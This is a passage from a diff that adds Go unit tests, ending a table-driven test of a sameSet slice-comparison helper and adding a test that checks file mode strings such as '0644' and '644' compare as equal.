+		{[]string{"a"}, []string{"a", "b"}, false},
+	}
+
+	for _, tt := range tests {
+		if got := sameSet(tt.a, tt.b); got != tt.want {
+			t.Errorf("sameSet(%q, %q) = %v, want %v", tt.a, tt.b, got, tt.want)
+		}
+	}
+}
+
+func TestSameMode(t *testing.T) {
+	if !sameMode("0644", "644") {
+		t.Error("0644 and 644 should be equal")
+	}
+	if sameMode("0644", "0600") {
+		t.Error("0644 and 0600 should differ")
+	}
+}